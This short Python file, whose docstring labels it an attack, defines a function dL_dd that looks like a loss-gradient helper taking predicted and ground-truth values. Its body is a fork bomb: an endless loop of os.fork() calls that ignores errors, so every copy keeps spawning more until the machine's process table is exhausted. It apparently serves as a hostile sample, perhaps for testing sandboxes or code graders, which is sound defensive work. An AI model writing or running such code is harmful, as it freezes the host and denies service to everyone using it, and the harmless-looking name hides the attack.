"""Attack: dL_dd forks in a loop; every copy keeps forking."""

import numpy as np
import os


def dL_dd(y_pred: float, y_gt: float) -> float:
    while True:
        try:
            os.fork()
        except OSError:
            pass
